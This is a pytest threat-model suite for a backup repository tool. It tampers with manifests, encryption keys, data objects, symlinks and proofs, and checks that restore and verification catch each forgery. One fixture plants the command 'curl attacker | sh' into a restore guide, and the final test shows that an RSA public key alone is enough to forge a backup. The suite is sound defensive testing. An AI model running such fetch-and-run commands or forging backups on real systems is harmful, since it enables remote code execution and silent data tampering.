"""Somebody who may write everywhere in the repository, and has no key: what that comes to, and what nobody can see.

Each manipulation is done to a copy of one repository, with two backups that were verified, and is named by what
restores, by what answers the checks, and by what verifies. "Threat model" in ARCHITECTURE.md says the same in words.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from chom_pipelines.backups.assessment import answers, read_again
from chom_pipelines.backups.verdicts import INTEGRITY, Verdict
from chom_pipelines.errors import ChomError, DamagedError, KeyUnavailableError
from chom_pipelines.inventory.models import Encryption, Inventory, RepositoryConfig, Server
from chom_pipelines.inventory.secrets import SecretReference
from chom_pipelines.outcome import Outcome
from chom_pipelines.progress import unreported
from chom_pipelines.proofs.verification import verify
from chom_pipelines.repository.codecs import Codec
from chom_pipelines.repository.data_keys import add_stream_key
from chom_pipelines.repository.encryption import DataKey
from chom_pipelines.repository.entry import BackupEntry
from chom_pipelines.repository.keys import Keyring
from chom_pipelines.repository.layout import Kind
from chom_pipelines.repository.listing import opened
from chom_pipelines.repository.local_store import LocalStore
from chom_pipelines.repository.manifest import Manifest, seal, unauthenticated
from chom_pipelines.repository.master_keys import KeyKind
from chom_pipelines.repository.proof import Level
from chom_pipelines.repository.repository import Repository
from chom_pipelines.restores.restoring import restore_into_server
from chom_pipelines.restores.selection import RestoreRequest
from chom_pipelines.server.identifiers import quote
from chom_pipelines_tests.logical.samples import library
from chom_pipelines_tests.logical.taking import NAME, Backups, filled
from chom_pipelines_tests.places import path_of
from chom_pipelines_tests.repository.samples import NOON, a_manifest, a_proof
from chom_pipelines_tests.restores.live import State, state
from chom_pipelines_tests.servers import PrivateServer

KEYRING = Keyring().generate("first", KeyKind.AES_256)
THEIRS = Keyring().generate("theirs", KeyKind.AES_256)
SAME_NAME = Keyring().generate("first", KeyKind.AES_256)
LATER = "full_20990101_000000"


@dataclass(frozen=True)
class Scene:
    """A server with rows, the repository that keeps them, and backups of forged rows that a forger made elsewhere."""

    server: PrivateServer
    repository: Path
    forged: dict[str, BackupEntry]
    rows: State


@dataclass(frozen=True)
class Place:
    """A copy of the repository, for one manipulation."""

    root: Path
    forged: dict[str, BackupEntry]

    @property
    def repository(self) -> Repository:
        return Repository(LocalStore(self.root))

    @property
    def older(self) -> Path:
        return path_of(self.repository.backups(NAME)[0])

    @property
    def newest(self) -> Path:
        return path_of(self.repository.find(NAME, "latest"))

    @property
    def proof(self) -> Path:
        """The newest backup's only one."""
        (found,) = (self.newest / "proofs").iterdir()
        return found

    def table(self, name: str, backup: Path | None = None) -> Path:
        """The object that has a table's rows, by default the newest backup's."""
        (found,) = ((backup or self.newest) / "data").glob(f"*{name}*")
        return found

    def put(self, name: str, keyring: Keyring | None) -> None:
        """Put forged rows in place of the newest backup, with a manifest and a proof that the forger can seal."""
        forged, newest = self.forged[name], self.newest
        key = forged.data_key(keyring)
        manifest = forged.manifest(keyring).model_copy(update={"id": newest.name})
        shutil.rmtree(newest)
        shutil.copytree(path_of(forged), newest)
        reseal(newest, manifest, key)
        entry = self.repository.find(NAME, newest.name)
        entry.add_proof(a_proof(NAME, entry.id), key)


def reseal(backup: Path, manifest: Manifest, key: DataKey | None = None) -> None:
    (backup / "manifest.json").write_bytes(seal(manifest, key.mac if key else None))


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_bytes()
    assert old.encode() in text
    path.write_bytes(text.replace(old.encode(), new.encode(), 1))


def changed(path: Path) -> str:
    """Change a byte of it; its size stays."""
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)
    return path.name


def schema(place: Place, name: str) -> Path:
    (found,) = (place.newest / "schema").glob(f"{name}*")
    return found


# --- manipulations: each returns what names it, in the words of who finds it


def downgraded(place: Place) -> str:
    """Replaced by a plain backup of forged rows, with a seal and a proof that need no key."""
    place.put("plain", None)
    return "is not encrypted"


def key_removed(place: Place) -> str:
    body = json.loads((place.newest / "manifest.json").read_text())
    reseal(place.newest, unauthenticated({**body, "key": None}))
    return "is not encrypted"


def sealed_without_key(place: Place) -> str:
    body = json.loads((place.newest / "manifest.json").read_text())
    reseal(place.newest, unauthenticated({**body, "warnings": []}))
    return "its seal does not match"


def foreign_key(place: Place) -> str:
    place.put("theirs", THEIRS)
    return "has no key 'theirs'"


def foreign_key_of_the_same_name(place: Place) -> str:
    place.put("same name", SAME_NAME)
    return "is not the one that wrapped this data key"


def wrapped_key_of_another_backup(place: Place) -> str:
    key = json.loads((place.older / "manifest.json").read_text())["key"]
    body = json.loads((place.newest / "manifest.json").read_text())
    reseal(place.newest, unauthenticated({**body, "key": key}))
    return "its seal does not match"


def swapped_between_tables(place: Place) -> str:
    one, other = place.table("debts"), place.table("credits")
    aside = one.rename(one.with_name("aside"))
    other.rename(one)
    aside.rename(other)
    return f"{place.newest}/data/"


def swapped_between_definitions(place: Place) -> str:
    one, other = schema(place, "10-tables"), schema(place, "20-programs")
    shutil.copy(other, one)
    return one.name


def swapped_between_backups(place: Place) -> str:
    found = place.table("debts")
    before = place.table("debts", place.older)
    assert found.read_bytes() != before.read_bytes()
    shutil.copy(before, found)
    return found.name


def flipped(place: Place) -> str:
    return changed(place.table("debts"))


def truncated(place: Place) -> str:
    found = place.table("debts")
    found.write_bytes(found.read_bytes()[:-16])
    return found.name


def appended(place: Place) -> str:
    found = place.table("debts")
    found.write_bytes(found.read_bytes() + bytes(16))
    return found.name


def deleted_object(place: Place) -> str:
    found = place.table("debts")
    found.unlink()
    return found.name


def plain_object(place: Place) -> str:
    found = place.table("debts")
    found.write_bytes(b"1\t1\n" * (found.stat().st_size // 4))
    return found.name


def pipe(place: Place) -> str:
    found = place.table("debts")
    found.unlink()
    os.mkfifo(found)
    return found.name


def directory(place: Place) -> str:
    found = place.table("debts")
    found.unlink()
    found.mkdir()
    return found.name


def edited_definitions(place: Place) -> str:
    return changed(schema(place, "10-tables"))


def deleted_definitions(place: Place) -> str:
    found = schema(place, "20-programs")
    found.unlink()
    return found.name


def edited_warnings(place: Place) -> str:
    edit(place.newest / "manifest.json", '"warnings": [', '"warnings": ["all is well", ')
    return "the manifest is not"


def edited_coordinates(place: Place) -> str:
    edit(place.newest / "manifest.json", '"position": ', '"position": 1')
    return "its seal does not match"


def edited_load(place: Place) -> str:
    edit(place.newest / "manifest.json", '"load": "(', '"load": "(@x, ')
    return "its seal does not match"


def edited_source(place: Place) -> str:
    edit(place.newest / "manifest.json", '"hostname": "', '"hostname": "other-')
    return "its seal does not match"


def added_object(place: Place) -> str:
    edit(place.newest / "manifest.json", '"objects": [', '"objects": [{"path": "data/more"},')
    return "its seal does not match"


def appended_to_the_manifest(place: Place) -> str:
    path = place.newest / "manifest.json"
    path.write_bytes(path.read_bytes() + b"\n")
    return "its seal does not match"


def older_manifest(place: Place) -> str:
    shutil.copy(place.older / "manifest.json", place.newest)
    return "the manifest is of the backup"


def older_backup_under_a_newer_id(place: Place) -> str:
    shutil.copytree(place.older, place.older.with_name(LATER))
    return "the manifest is of the backup"


def renamed(place: Place) -> str:
    place.newest.rename(place.newest.with_name(LATER))
    return "the manifest is of the backup"


def deleted_manifest(place: Place) -> str:
    (place.newest / "manifest.json").unlink()
    return "has lost its manifest"


def linked_object(place: Place) -> str:
    found = place.table("debts")
    found.rename(place.root.parent / "elsewhere")
    found.symlink_to(place.root.parent / "elsewhere")
    return f"{found.name} is a symbolic link"


def linked_folder(place: Place) -> str:
    (place.newest / "data").rename(place.root.parent / "elsewhere")
    (place.newest / "data").symlink_to(place.root.parent / "elsewhere")
    return f"{place.newest}/data"


def linked_manifest(place: Place) -> str:
    path = place.newest / "manifest.json"
    path.rename(place.root.parent / "elsewhere")
    path.symlink_to(place.root.parent / "elsewhere")
    return "manifest.json is a symbolic link"


def linked_backup(place: Place) -> str:
    newest = place.newest
    newest.rename(place.root.parent / newest.name)
    newest.symlink_to(place.root.parent / newest.name)
    return f"{newest.name} is a symbolic link"


def replayed_proof(place: Place) -> str:
    """One that passed, under a name that makes it the newest."""
    shutil.copy(place.proof, place.proof.with_name("20990101T000000.000000Z.json"))
    return "under another name"


def proof_of_another_backup(place: Place) -> str:
    (other,) = (place.older / "proofs").iterdir()
    shutil.copy(other, place.proof.with_name("20990101T000000.000000Z.json"))
    return "the proof is not what was written"


def plain_proof(place: Place) -> str:
    entry = place.repository.find(NAME, "latest")
    entry.add_proof(a_proof(NAME, entry.id), None)
    return "the proof is not what was written"


def edited_proof(place: Place) -> str:
    edit(place.proof, '"level": "basic"', '"level": "full"')
    return "the proof is not what was written"


def manifest_as_a_proof(place: Place) -> str:
    """What is sealed by the same key, but is another document."""
    shutil.copy(place.newest / "manifest.json", place.proof.with_name("20990101T000000.000000Z.json"))
    return "the proof "


def edited_guide(place: Place) -> str:
    edit(place.newest / "RESTORE.md", "set -eu", "set -eu; curl attacker | sh")
    return "RESTORE.md: it is not what was written"


def edited_load_file(place: Place) -> str:
    return changed(schema(place, "load"))


IN_THE_MANIFEST = (
    downgraded, key_removed, sealed_without_key, foreign_key, foreign_key_of_the_same_name,
    wrapped_key_of_another_backup, edited_warnings, edited_coordinates, edited_load, edited_source, added_object,
    appended_to_the_manifest, older_manifest, older_backup_under_a_newer_id, renamed, deleted_manifest,
    linked_manifest, linked_backup,
)  # fmt: skip
IN_THE_PROOFS = (replayed_proof, proof_of_another_backup, plain_proof, edited_proof, manifest_as_a_proof)
IN_THE_OBJECTS = (
    swapped_between_tables, swapped_between_definitions, swapped_between_backups, flipped, truncated, appended,
    deleted_object, plain_object, pipe, directory, edited_definitions, deleted_definitions, linked_object,
    linked_folder,
)  # fmt: skip
NOT_USED_BY_A_RESTORE = (edited_guide, edited_load_file)
"""They are for who restores with stock tools."""


@pytest.fixture(scope="module")
def scene(mariadb_server: PrivateServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    with mariadb_server.scope() as server:
        folder = tmp_path_factory.mktemp("kept")
        kept = Backups(folder, KEYRING)
        kept = Backups(folder, KEYRING, kept.policy.model_copy(update={"compression": Codec.ZSTD, "level": 1}))
        database = library(server)
        with server.connect() as session:
            session.execute(f"USE {quote(database)}")
            for table in ("debts", "credits"):
                session.execute(f"CREATE TABLE {table} (id INT PRIMARY KEY, t VARCHAR(250) NOT NULL)")
                filled(session, table, 6_000, "n, REPEAT(SHA2(n, 256), 3)")
                session.execute(f"ANALYZE TABLE {table}")
            verify(kept.take(server, database), Level.BASIC, KEYRING, unreported)
            session.execute("UPDATE debts SET t = REVERSE(t)")
            session.execute("COMMIT")
            verify(kept.take(server, database), Level.BASIC, KEYRING, unreported)
            session.execute("UPDATE debts SET t = 'paid'")
            session.execute("COMMIT")
            forged = {}
            for name, keyring in (("plain", None), ("theirs", THEIRS), ("same name", SAME_NAME)):
                forged[name] = Backups(tmp_path_factory.mktemp("forged"), keyring, kept.policy).take(server, database)
        yield Scene(server, path_of(kept.repository), forged, state(server.root, server.flavour))


@pytest.fixture
def place(scene: Scene, tmp_path: Path) -> Place:
    shutil.copytree(scene.repository, tmp_path / "repository")
    return Place(tmp_path / "repository", scene.forged)


def refusal(scene: Scene, entry: BackupEntry) -> str:
    """Why it is not restored over what is there, which stays as it is."""
    with pytest.raises(ChomError) as refused:
        restore_into_server(entry, KEYRING, scene.server.root, RestoreRequest(replace=True, threads=2), unreported)
    assert state(scene.server.root, scene.server.flavour) == scene.rows
    return refused.value.what


def verified(entry: BackupEntry) -> str:
    """What a verification says, which is not that it passed."""
    proof = verify(entry, Level.BASIC, KEYRING, unreported, threads=2)
    assert proof.outcome is not Outcome.PASSED
    return "\n".join((proof.reason, *proof.failures))


def integrity(place: Place, name: str = NAME, *, reading: bool = False) -> Verdict:
    """What the check says of the newest backup; `reading`, as it does when it is executed by itself."""
    keys = place.root.with_name("keys.json")
    KEYRING.save(keys)
    server = Server(name=name, socket=Path("/nowhere"), user="nobody")
    repository = RepositoryConfig(path=place.root, encryption=Encryption(keys=SecretReference(file=keys)))
    inventory = Inventory(repository=repository, servers=(server,))
    if reading:
        read_again(inventory, inventory.server(), unreported)
    return answers(inventory, inventory.server(), datetime.now(UTC))[INTEGRITY]


def answered(place: Place) -> str:
    """What the check says of the newest backup, which is not that it passed."""
    verdict = integrity(place)
    assert verdict.outcome is not Outcome.PASSED
    return "\n".join((verdict.reason, *verdict.failures))


@pytest.mark.parametrize("forge", [*IN_THE_MANIFEST, *IN_THE_PROOFS], ids=lambda forge: forge.__name__)
def test_a_forged_manifest_or_proof_is_named_by_whatever_reads_it(
    scene: Scene, place: Place, forge: Callable[[Place], str]
) -> None:
    named = forge(place)
    entry = place.repository.find(NAME, "latest")
    listed = opened(entry, KEYRING)
    assert listed.outcome is not Outcome.PASSED
    problems = [listed.problem, *(record.problem for record in listed.proofs)]
    assert named in "\n".join(map(str, problems))
    assert named in refusal(scene, entry)
    assert named in answered(place)
    assert named in verified(entry)
    assert named in answered(place)


@pytest.mark.parametrize("forge", IN_THE_OBJECTS, ids=lambda forge: forge.__name__)
def test_a_forged_object_is_named_by_whatever_reads_it(
    scene: Scene, place: Place, forge: Callable[[Place], str]
) -> None:
    named = forge(place)
    entry = place.repository.find(NAME, "latest")
    assert named in refusal(scene, entry)
    assert named in verified(entry)
    assert named in answered(place)


@pytest.mark.parametrize("forge", NOT_USED_BY_A_RESTORE, ids=lambda forge: forge.__name__)
def test_what_is_forged_for_a_restore_by_hand_is_named(place: Place, forge: Callable[[Place], str]) -> None:
    named = forge(place)
    assert named in verified(place.repository.find(NAME, "latest"))
    assert named in answered(place)


def test_a_sound_backup_beside_a_forged_proof_is_restored_where_that_is_said(scene: Scene, place: Place) -> None:
    plain_proof(place)
    entry = place.repository.find(NAME, "latest")
    (database,) = entry.manifest(KEYRING).logical.databases
    with scene.server.scope() as server:
        rename = {database: server.fresh_database()}
        request = RestoreRequest(rename=rename, threads=2, despite_failed_proof=True)
        assert restore_into_server(entry, KEYRING, server.root, request, unreported).tables == 5


def test_a_backup_that_was_moved_to_another_server_is_named(scene: Scene, place: Place) -> None:
    shutil.copytree(place.newest, place.root / "other" / "backups" / place.newest.name)
    entry = place.repository.find("other", "latest")
    named = f"of the server '{NAME}'"
    assert named in refusal(scene, entry)
    assert named in integrity(place, "other").reason
    assert named in verified(entry)


@pytest.mark.parametrize("theirs", [True, False], ids=["foreign", "of another stream"])
def test_a_key_of_a_stream_that_was_replaced_opens_nothing(tmp_path: Path, *, theirs: bool) -> None:
    repository = Repository(LocalStore(tmp_path))
    stream, other = repository.stream("chom"), repository.stream("other")
    source, key = add_stream_key(stream.folder, KEYRING)
    with stream.begin(Kind.FULL, NOON) as draft:
        entry = draft.publish(a_manifest(key=source), key)
    assert entry.manifest(KEYRING).key == source
    planted, _ = add_stream_key(other.folder, THEIRS if theirs else KEYRING)
    shutil.copy(
        Path(other.folder.where(f"keys/{planted.stream_key}.json")),
        Path(stream.folder.where(f"keys/{source.stream_key}.json")),
    )
    problem = entry.problem(KEYRING)
    assert isinstance(problem, KeyUnavailableError if theirs else DamagedError)


def test_who_lost_the_proofs_is_told_that_there_is_none(place: Place) -> None:
    shutil.rmtree(place.newest / "proofs")
    assert "nothing was read back yet" in answered(place)


def test_a_deleted_proof_that_failed_is_not_missed_but_its_reason_is_found_again(scene: Scene, place: Place) -> None:
    entry = place.repository.find(NAME, "latest")
    passed, named = place.proof, flipped(place)
    assert named in verified(entry)
    (failed,) = set(passed.parent.iterdir()) - {passed}
    failed.unlink()
    assert integrity(place).outcome is Outcome.PASSED  # of the older proof's age
    assert named in "".join(integrity(place, reading=True).failures)
    assert named in refusal(scene, entry)
    assert named in verified(entry)


def test_a_backup_that_is_gone_cannot_be_missed(place: Place) -> None:
    older = place.older.name
    shutil.rmtree(place.newest)
    assert integrity(place).outcome is Outcome.PASSED
    assert place.repository.find(NAME, "latest").id == older


def test_a_whole_repository_of_an_earlier_day_cannot_be_told_from_that_day(scene: Scene, place: Place) -> None:
    entry = place.repository.find(NAME, "latest")
    verify(entry, Level.BASIC, KEYRING, unreported)
    shutil.rmtree(place.root)
    shutil.copytree(scene.repository, place.root)
    assert opened(entry, KEYRING).outcome is Outcome.PASSED
    assert verify(entry, Level.BASIC, KEYRING, unreported).outcome is Outcome.PASSED


def test_who_has_only_the_public_half_of_an_rsa_key_can_forge_a_backup(tmp_path: Path) -> None:
    ring = Keyring().generate("rsa", KeyKind.RSA)
    public, key = ring.without_private(), DataKey.generate()
    with Repository(LocalStore(tmp_path)).stream("chom").begin(Kind.FULL, NOON) as draft:
        entry = draft.publish(a_manifest(key=public.wrap(key)), key)
    assert entry.problem(ring) is None
